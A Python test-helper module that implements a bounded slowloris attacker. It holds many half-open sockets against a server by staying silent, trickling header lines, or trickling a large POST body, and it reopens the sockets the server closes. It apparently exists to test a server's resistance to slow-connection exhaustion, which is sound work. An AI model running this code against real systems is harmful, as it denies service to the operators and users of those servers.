"""Hostile clients for the server tests, bounded in count and time; run as a child process so that
their work does not share a GIL with the client whose latency a test measures.

``python attackers.py slowloris HOST PORT N SECONDS HOLD`` holds N half-open sockets for SECONDS:
a third connect and stay silent, a third send a request line and then one header line every
half second (never the blank line that ends the headers), a third send the headers of a 1 MB
POST and then trickle its body a byte at a time. A socket the server closes is opened again on
the next round, as slowloris does. Then it prints one JSON line (sockets opened, how many the
server closed) and leaves its sockets open and silent for HOLD seconds more.
"""

from __future__ import annotations

import errno
import json
import select
import socket
import sys
import time

#: What each kind of half-open socket sends first, and then every round.
_FIRST = (b"", b"GET /health HTTP/1.1\r\nHost: attacker\r\n",
          b"POST /sessions HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\n"
          b"Content-Length: 1000000\r\n\r\n{")
_TRICKLE = (b"", b"X-Slow: 1\r\n", b" ")


def _open(host: str, port: int) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    err = s.connect_ex((host, port))
    if err not in (0, errno.EINPROGRESS):
        s.close()
        raise OSError(err, "connect failed")
    return s


def _send(s: socket.socket, data: bytes) -> bool:
    """Whether `data` went out (False while the connect is still in progress or our buffer is full)."""
    try:
        return s.send(data) == len(data)
    except OSError:
        return False


def _gone(poller: select.poll, socks: dict[int, int], conns: list[socket.socket | None]) -> set[int]:
    """Indices of the sockets the server has closed (EOF or reset; a last answer is read and dropped)."""
    out = set()
    for fd, event in poller.poll(0):
        i = socks[fd]
        s = conns[i]
        if s is None:
            continue
        if event & (select.POLLERR | select.POLLHUP):
            out.add(i)
            continue
        try:
            if s.recv(65536) == b"":
                out.add(i)
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            out.add(i)
    return out


def slowloris(host: str, port: int, n: int, seconds: float, hold_s: float = 0.0,
              round_s: float = 0.5) -> dict[str, int]:
    """Hold `n` half-open sockets for `seconds`, re-opening what the server closes each round;
    then print the figures, and keep the open ones, silent, for `hold_s` more before closing them
    (so a test sees the server let go of them by itself)."""
    conns: list[socket.socket | None] = [None] * n
    unsent = [b""] * n  # what a socket still has to send of its first bytes
    kinds = [i % 3 for i in range(n)]
    poller = select.poll()
    by_fd: dict[int, int] = {}
    opened = closed = failed = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        started = time.monotonic()
        for i in _gone(poller, by_fd, conns):
            s = conns[i]
            assert s is not None
            poller.unregister(s)
            del by_fd[s.fileno()]
            s.close()
            conns[i] = None
            closed += 1
        for i in range(n):
            s = conns[i]
            if s is None:
                try:
                    s = conns[i] = _open(host, port)
                except OSError:
                    failed += 1
                    continue
                opened += 1
                poller.register(s, select.POLLIN)
                by_fd[s.fileno()] = i
                unsent[i] = _FIRST[kinds[i]]
            if unsent[i]:
                if _send(s, unsent[i]):
                    unsent[i] = b""
            elif _TRICKLE[kinds[i]]:
                _send(s, _TRICKLE[kinds[i]])
        time.sleep(max(0.0, round_s - (time.monotonic() - started)))
    figures = {"opened": opened, "closed_by_server": closed, "connect_failed": failed}
    print(json.dumps(figures), flush=True)
    time.sleep(hold_s)
    for s in conns:
        if s is not None:
            s.close()
    return figures


def _enough_descriptors(n: int) -> None:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))


if __name__ == "__main__":
    _, attack, host_, port_, n_, seconds_, hold_ = sys.argv
    assert attack == "slowloris", attack
    _enough_descriptors(int(n_))
    slowloris(host_, int(port_), int(n_), float(seconds_), float(hold_))
